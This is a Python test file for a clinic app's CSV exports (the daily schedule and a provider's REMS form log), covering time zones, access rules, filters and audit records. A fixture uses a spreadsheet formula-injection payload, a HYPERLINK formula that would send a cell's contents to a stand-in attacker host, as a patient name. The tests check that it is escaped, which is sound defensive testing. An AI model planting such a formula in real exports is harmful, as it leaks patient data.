"""CSV exports: the day of Today and the provider's REMS form log, read by the csv module as a spreadsheet
would get them, with formula-like names written as text, the page's access rule, and an audit row."""

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from clinic.extensions import db
from clinic.models.audit import AuditEvent
from clinic.models.patient import Patient
from tests.factories import book_series, make_clinic, make_infusion_day, make_provider, make_user
from tests.sessions import monitored_session
from tests.web.test_login import _sign_in

DAY = "2027-03-08"  # a Monday; New York is on standard time (UTC-5) until 14 March
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def day(app, clock):
    """An IV infusion 10:00-11:55 with the clinic's provider for a patient whose first name is a formula,
    and a 14:00 consult with a second provider for a patient named "+1-2"."""
    with app.app_context():
        return make_infusion_day(clock.now, (HYPERLINK, "Ångström"), ("+1-2", "Haddad"))


def _rows(response) -> list[dict[str, str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), "Excel needs the byte order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _export_day(client, day, **args):
    return client.get(
        "/today/export.csv", query_string={"location_id": day["location_id"], "date": DAY, **args}
    )


def _audit(app, action: str, email: str) -> list[AuditEvent]:
    with app.app_context():
        return list(
            db.session.scalars(
                select(AuditEvent).where(AuditEvent.action == action, AuditEvent.actor_label == email)
            )
        )


def test_the_day_downloads_as_csv_with_local_times_and_formulas_written_as_text(app, client, day):
    _sign_in(client)
    response = _export_day(client, day)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f'{DAY}.csv"' in disposition
    assert response.headers["Cache-Control"] == "no-store"
    rows = _rows(response)
    assert [(r["Start"], r["End"], r["Column"], r["Kind"]) for r in rows] == [
        ("2027-03-08T10:00:00-05:00", "2027-03-08T11:55:00-05:00", "Infusion 1", "dose"),
        ("2027-03-08T14:00:00-05:00", "2027-03-08T14:30:00-05:00", "Dr Okafor", "consult"),
    ]
    assert rows[0]["Patient"] == "'" + HYPERLINK + " Ångström"
    assert rows[1]["Patient"] == "'+1-2 Haddad"
    assert rows[0]["Visit id"] == str(day["infusion"]) and rows[0]["Status"] == "scheduled"
    assert rows[1]["Provider"] == "Dr Okafor"

    exported = _audit(app, "export.visits", "desk@example.com")
    assert len(exported) == 1 and exported[0].object_id == str(day["location_id"])
    assert exported[0].details["date"] == DAY and exported[0].details["rows"] == 2
    reads = {e.object_id: e.details["via"] for e in _audit(app, "patient.read", "desk@example.com")}
    assert reads[str(day["patient_id"])] == "web_today.export"


def test_the_export_keeps_the_filters_of_the_page(client, day):
    _sign_in(client)
    rows = _rows(_export_day(client, day, kind="consult"))
    assert [r["Kind"] for r in rows] == ["consult"]


def test_a_provider_exports_other_patients_visits_without_their_names(app, client, day):
    _sign_in(client, email="doc@example.com")
    own = _rows(_export_day(client, day))
    assert [r["Visit id"] for r in own] == [str(day["infusion"])]  # their own day first, as on the page

    everyone = _rows(_export_day(client, day, mine="0"))
    assert len(everyone) == 2
    consult = everyone[1]
    assert consult["Start"] == "2027-03-08T14:00:00-05:00" and consult["Kind"] == "consult"
    assert consult["Patient"] == "" and consult["Visit id"] == "" and consult["Status"] == ""
    reads = [e.object_id for e in _audit(app, "patient.read", "doc@example.com")]
    assert str(day["patient_id"]) in reads and str(day["other_patient_id"]) not in reads
    assert len(_audit(app, "export.visits", "doc@example.com")) == 2


@pytest.mark.parametrize(
    ("field", "value"),
    [("date", "2027-02-30"), ("date", "garbage"), ("provider_id", "x"), ("kind", "surgery")],
)
def test_a_filter_that_cannot_be_read_answers_400_naming_it_and_exports_nothing(
    app, client, day, field, value
):
    _sign_in(client)
    response = client.get("/today/export.csv", query_string={"location_id": day["location_id"], field: value})
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert f"{field}:" in response.get_data(as_text=True)
    assert _audit(app, "export.visits", "desk@example.com") == []


def test_the_today_page_offers_the_download_with_its_filters(client, day):
    _sign_in(client)
    page = client.get(
        "/today/", query_string={"location_id": day["location_id"], "date": DAY, "kind": "dose"}
    )
    html = page.get_data(as_text=True)
    link = html.split('data-testid="day-csv"')[0].rsplit("<a ", 1)[1]
    assert "/today/export.csv?" in link and f"date={DAY}" in link and "kind=dose" in link


# The REMS form log.


@pytest.fixture
def sessions(app, clock, api_as):
    """A discharged Spravato session (Mon 8 March 2027, 09:00 New York) of a patient named "@Dana",
    and a doctor of another clinic's patients who must not see it."""
    with app.app_context():
        clinic = make_clinic()
        patient = db.session.get(Patient, clinic["patient_id"])
        patient.first_name, patient.last_name = "@Dana", "Zoë"
        db.session.commit()
        series = book_series(clinic, clock.now)
        make_user("provider", email="doc@example.com", provider_id=clinic["provider_id"])
        stranger = make_provider(name="Dr Elsewhere")
        make_user("provider", email="other@example.com", provider_id=stranger.id)
        make_user("frontdesk", email="desk@example.com")
        db.session.commit()
        first = next(a.id for a in series.appointments if a.kind == "dose")
    clock.now = datetime(2027, 3, 8, 14, 5, tzinfo=UTC)
    desk, doctor = api_as("frontdesk"), api_as("provider", provider_id=clinic["provider_id"])
    monitored_session(desk, doctor, first, clock)
    assert desk.post(f"/api/v1/appointments/{first}/complete", json={}).status_code == 200
    return {**clinic, "session": first}


def test_the_rems_form_log_downloads_with_every_form_of_the_providers_patients(app, client, sessions):
    _sign_in(client, email="doc@example.com")
    assert 'data-testid="rems-csv"' in client.get("/provider").get_data(as_text=True)
    response = client.get("/provider/rems-forms.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="rems-forms-all-')
    assert response.headers["Cache-Control"] == "no-store"
    rows = _rows(response)
    assert len(rows) == 1
    row = rows[0]
    assert row["Session id"] == str(sessions["session"]) and row["Session date"] == DAY
    assert row["Patient"] == "'@Dana Zoë"
    assert row["Monitoring started"] == "2027-03-08T09:05:00-05:00"
    assert row["Lot number"] == "LOT-2027-A" and row["Dose (mg)"].startswith("56")
    assert row["Blood pressure"] == "pre 128/82; post40 138/88; discharge 124/80"
    assert row["Sedation observed"] == "no" and row["Status"] == "due" and row["Due by"] == "2027-03-15"

    exported = _audit(app, "export.rems_forms", "doc@example.com")
    assert len(exported) == 1 and exported[0].details["rows"] == 1
    reads = [e.object_id for e in _audit(app, "patient.read", "doc@example.com")]
    assert str(sessions["patient_id"]) in reads


def test_the_rems_form_log_of_another_provider_lists_none_of_these_patients(app, client, sessions):
    _sign_in(client, email="other@example.com")
    assert _rows(client.get("/provider/rems-forms.csv")) == []
    assert str(sessions["patient_id"]) not in [
        e.object_id for e in _audit(app, "patient.read", "other@example.com")
    ]


def test_the_rems_form_log_filters_by_status_and_names_a_bad_one(client, sessions):
    _sign_in(client, email="doc@example.com")
    assert _rows(client.get("/provider/rems-forms.csv?status=submitted")) == []
    assert len(_rows(client.get("/provider/rems-forms.csv?status=due"))) == 1
    bad = client.get("/provider/rems-forms.csv?status=lost")
    assert bad.status_code == 400 and "status:" in bad.get_data(as_text=True)


def test_the_front_desk_cannot_export_the_rems_form_log(client, sessions):
    _sign_in(client)
    assert client.get("/provider/rems-forms.csv").status_code == 403
